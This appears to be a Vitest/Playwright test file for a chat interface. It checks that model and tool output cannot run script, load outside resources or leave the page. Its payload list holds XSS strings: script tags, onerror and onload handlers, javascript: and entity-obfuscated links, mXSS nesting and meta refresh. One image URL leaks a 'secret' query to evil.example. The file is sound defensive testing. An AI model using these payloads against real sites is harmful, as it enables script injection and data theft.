import { describe, expect, test } from 'vitest'
import { ended, say, setUpProduct } from './product.ts'

const { open, product } = setUpProduct()

/** Attempts to run code, to load something from elsewhere, or to leave the page. */
const PAYLOADS = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg onload="window.pwned=1"><circle/></svg>',
  '[click](javascript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '![x](https://evil.example/p.png?q=secret)',
  '![x](javascript:window.pwned=1)',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '`${window.pwned=1}` <details open ontoggle="window.pwned=1">x</details>',
]

describe('what models and tools write', () => {
  test('never runs, loads or leaves', async () => {
    const { page, problems } = await open()
    const requests: string[] = []
    page.on('request', request => requests.push(new URL(request.url()).host))
    await say(page, '/think')
    await ended(page)
    let n = 1
    for (const payload of PAYLOADS) {
      await say(page, payload)
      await ended(page, ++n)
    }
    await say(page, `run \`printf '%s' '<img src=x onerror=window.pwned=1>' '\\033[31mred'\``)
    await page
      .locator('[data-tw-part="allow-once"]')
      .or(page.locator('[data-row="end"] >> [data-tw-part="turn-footer"]').nth(n))
      .first()
      .waitFor()
    if (await page.locator('[data-tw-part="allow-once"]').count())
      await page.locator('[data-tw-part="allow-once"]').click()
    await ended(page, ++n)
    await page.locator('[data-tool="Bash"] [data-tw-part="tool-header"]').last().click()
    for (const link of await page.locator('.thread [data-tw-part="link"]').all())
      expect(new URL((await link.getAttribute('href')) ?? '').protocol).toMatch(/^https?:$/)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(await page.locator('.thread :is(script, iframe, form, style, meta)').count()).toBe(0)
    expect(await page.locator('.thread img').count()).toBe(0)
    expect(new Set(requests)).toEqual(new Set([new URL(product().url).host]))
    expect(new URL(page.url()).host).toBe(new URL(product().url).host)
    expect(problems).toEqual([])
    await page.context().close()
  })

  test('the policy refuses inline code even when something is put into the page', async () => {
    const { page } = await open()
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script')
      try {
        script.textContent = 'window.pwned = 1'
        document.body.append(script)
        document.body.innerHTML += '<img src=x onerror="window.pwned=1">'
      } catch {}
      await new Promise(done => setTimeout(done, 200))
      return 'pwned' in window
    })
    expect(ran).toBe(false)
    await page.context().close()
  })

  test('a link names its host, and an image from elsewhere waits for consent', async () => {
    const { page } = await open()
    await say(page, 'see [the docs](https://docs.example/a) and ![chart](https://pics.example/c.png)')
    await ended(page)
    const answer = page.locator('[data-role="assistant"]')
    expect(await answer.locator('[data-tw-part="link-host"]').first().innerText()).toBe('docs.example')
    expect(await answer.locator('[data-tw-part="image-gate"]').first().innerText()).toContain('pics.example')
    await page.context().close()
  })
})
